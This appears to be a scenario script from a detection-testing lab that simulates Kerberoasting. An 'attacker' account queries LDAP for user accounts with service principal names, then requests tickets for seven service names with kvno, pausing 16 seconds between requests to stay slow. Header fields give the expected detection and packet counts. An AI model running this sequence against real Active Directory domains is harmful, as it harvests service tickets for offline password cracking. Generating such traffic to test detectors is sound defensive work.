#: title: A search for accounts with service names, then their tickets with AES, unhurried
#: kind: attack
#: detect: kerberoast
#: place: kerberoast
#: cut: port 88 or port 389
#: count: 7 kerberos.msg_type == 13
#: check: 1 ldap.present == "servicePrincipalName"
. "$(dirname "${BASH_SOURCE[0]}")/../steps.sh"
run() {
  local s
  EXPECT=none step attacker oscar.nilsson "logon" login attacker oscar.nilsson
  step attacker oscar.nilsson "users with service names" ldapsearch -x -LLL -H "ldap://$DC_IP" -D "oscar.nilsson@$DNSDOM" -w "$(pw oscar.nilsson)" \
    -b "$BASE" '(&(objectCategory=person)(servicePrincipalName=*))' servicePrincipalName
  for s in MSSQLSvc/sql1.$DNSDOM:1433 MSSQLSvc/sql1.$DNSDOM HTTP/intranet.$DNSDOM HTTP/intranet backup/srv-file.$DNSDOM HTTP/reports.$DNSDOM HTTP/legacy-portal.$DNSDOM; do
    EXPECT=kerberoast step attacker oscar.nilsson "a ticket" kvno "$s"
    sleep 16
  done
}
